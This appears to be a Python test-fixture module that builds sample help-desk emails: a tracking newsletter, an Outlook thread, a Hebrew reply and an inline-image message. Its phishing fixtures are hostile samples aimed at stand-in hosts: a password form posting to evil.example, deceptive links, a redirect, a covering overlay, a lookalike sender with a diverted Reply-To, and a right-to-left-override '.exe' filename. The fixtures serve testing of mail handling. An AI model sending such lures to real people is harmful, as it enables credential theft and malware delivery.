"""Five mails as five programs write them, and small pictures to put into them."""

from __future__ import annotations

import struct
import uuid
import zlib
from email.message import EmailMessage

HELP = "help@birchandlinen.example"
SHOP = "https://img.linen-news.example"


def png(width: int, height: int, red: int, green: int, blue: int) -> bytes:
    """A picture of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = (b"\x00" + bytes((red, green, blue)) * width) * height
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + body


def letter(subject: str, text: str, html: str, sender: str) -> EmailMessage:
    mail = EmailMessage()
    mail["From"] = sender
    mail["To"] = HELP
    mail["Subject"] = subject
    mail["Message-ID"] = f"<{uuid.uuid4()}@mail.example>"
    mail.set_content(text)
    mail.add_alternative(html, subtype="html")
    return mail


def newsletter(mark: str) -> EmailMessage:
    """A wide table, pictures from elsewhere, a hidden first line and a picture that watches."""
    item = (
        f'<td width="300" valign="top" style="padding:12px"><img src="{SHOP}/item.png" width="276"'
        ' height="150" alt="Linen duvet cover" style="display:block"><p style="margin:8px 0 2px;'
        'font-weight:600">Linen duvet cover</p><p style="margin:0;color:#777">€ 149.00</p></td>'
    )
    html = f"""<html><head><style>body {{ background: url({SHOP}/bg.png) }}</style></head><body>
    <div style="display:none;max-height:0;overflow:hidden">Only until Sunday &zwnj;&nbsp;</div>
    <table width="940" cellpadding="0" cellspacing="0" style="background-color:#f4efe8">
    <tr><td colspan="3" style="padding:24px;font-size:28px;color:#3a5a40">Spring at Birch {mark}
    </td></tr><tr>{item}{item}{item}</tr><tr><td colspan="3" style="padding:24px">
    <a href="https://click.tracker.example/?u=1" style="color:#3a5a40">www.linen-news.example</a>
    </td></tr></table><img src="{SHOP}/open.gif" width="1" height="1"></body></html>"""
    return letter(
        f"Spring sale {mark}",
        f"Spring at Birch {mark}",
        html,
        "Linen News <news@linen-news.example>",
    )


def outlook(mark: str) -> EmailMessage:
    """A thread of three, each under a ruled block of fields."""
    rule = "border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"

    def old(name: str, day: int, words: str) -> str:
        return (
            f'<div><div style="{rule}"><p class="MsoNormal"><b>From:</b> {name} &lt;{name.lower()}'
            f"@firm.example&gt;<br><b>Sent:</b> Tuesday, {day} March 2026 10:12<br><b>To:</b> Help"
            f'<br><b>Subject:</b> Chairs</p></div></div><p class="MsoNormal">{words}</p>'
        )

    html = f"""<html xmlns:o="urn:schemas-microsoft-com:office:office"><body lang="EN-GB">
    <div class="WordSection1"><p class="MsoNormal">Both chairs are broken, see below. {mark}</p>
    <p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Kind regards,<br>Greta</p>
    {old("Paul", 4, "Which of the chairs do you mean?")}{old("Greta", 3, "The chair is broken.")}
    </div></body></html>"""
    return letter(
        f"Chairs {mark}", f"Both chairs are broken. {mark}", html, "Greta <greta@firm.example>"
    )


def hebrew(mark: str) -> EmailMessage:
    """A reply from a phone, from right to left, with its quote and its signature."""
    html = f"""<div dir="rtl"><div>שלום רב,</div><div><br></div><div>המשלוח הגיע אבל חסרה בו ציפית
    אחת בצבע מרווה. מתי תוכלו לשלוח אותה? {mark}</div><div><br></div>
    <div class="gmail_signature" data-smartmail="gmail_signature">תודה,<br>נועה לוי<br>054-555-0101
    </div></div><br><div class="gmail_quote"><div dir="rtl" class="gmail_attr">
    בתאריך יום ג׳, 4 במרץ 2026 ב-10:12 מאת Birch &amp; Linen
    &lt;help@birchandlinen.example&gt;:<br></div>
    <blockquote class="gmail_quote" style="margin:0 .8ex;border-right:1px solid #ccc">
    <div dir="ltr">Your parcel has left today.</div></blockquote></div>"""
    return letter(f"משלוח {mark}", f"המשלוח הגיע {mark}", html, "נועה לוי <noa@mail.example>")


def pictures(mark: str) -> EmailMessage:
    """Five pictures between the words, all of them inside the mail."""
    tints = [(196, 168, 140), (120, 144, 122), (90, 110, 140), (186, 120, 104), (160, 150, 170)]
    words = "".join(
        f'<p>Scratch {n + 1} of 5</p><p><img src="cid:p{n}@mail.example" alt="Scratch"></p>'
        for n in range(5)
    )
    mail = letter(f"Five scratches {mark}", f"Five scratches {mark}", "", "Ivo <ivo@mail.example>")
    html = mail.get_body(("html",))
    assert isinstance(html, EmailMessage)
    html.set_content(f"<p>The table came scratched. {mark}</p>{words}", subtype="html")
    for number, tint in enumerate(tints):
        html.add_related(
            png(240, 90, *tint),
            "image",
            "png",
            cid=f"<p{number}@mail.example>",
            filename=f"scratch{number}.png",
            disposition="inline",
        )
    return mail


def phishing(mark: str, payload: str = "") -> EmailMessage:
    """A link that lies, a form, a sheet over everything, and whatever else is given."""
    html = f"""<base href="https://evil.example/">
    <meta http-equiv="refresh" content="0;url=//evil.example">
    <div style="position:fixed;inset:0;z-index:99;background:#fff">Sign in again</div>
    <p>Your parcel is held. {mark}</p><p><a href="https://secure-login.evil.example/birch"
    title="https://birchandlinen.example">https://birchandlinen.example/account</a></p>
    <p><a href="https://birchandlinen.example@evil.example/">Confirm</a></p>
    <form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
    {payload}"""
    return letter(
        f"Your parcel is held {mark}",
        f"Your parcel is held. {mark}",
        html,
        "Post <post@evil.example>",
    )


def disguised(mark: str) -> EmailMessage:
    """The same from somebody who looks like us and wants the answer elsewhere."""
    mail = phishing(mark)
    mail.replace_header("From", "Birch & Linen <help@birchandl1nen.example>")
    mail["Reply-To"] = "collect@elsewhere.example"
    return mail


def endless(mark: str) -> EmailMessage:
    """Ten thousand lines."""
    lines = "\n".join(f"{number}: the same as before" for number in range(10_000))
    mail = EmailMessage()
    mail["From"], mail["To"] = "Ivo <ivo@mail.example>", HELP
    mail["Subject"] = f"All of it {mark}"
    mail["Message-ID"] = f"<{uuid.uuid4()}@mail.example>"
    mail.set_content(f"See below. {mark}\n{lines}")
    return mail


def backwards(mark: str) -> EmailMessage:
    """A name and a file's name that turn what stands after them around."""
    mail = letter(f"Turned {mark}", f"Turned {mark}", "<p>Turned</p>", "Ivo <ivo@mail.example>")
    mail.replace_header("From", "\u202emoc.knab@ofni\u202c <ivo@turned.example>")
    mail.add_attachment(
        b"MZ", maintype="application", subtype="octet-stream", filename="bill\u202efdp.exe"
    )
    return mail
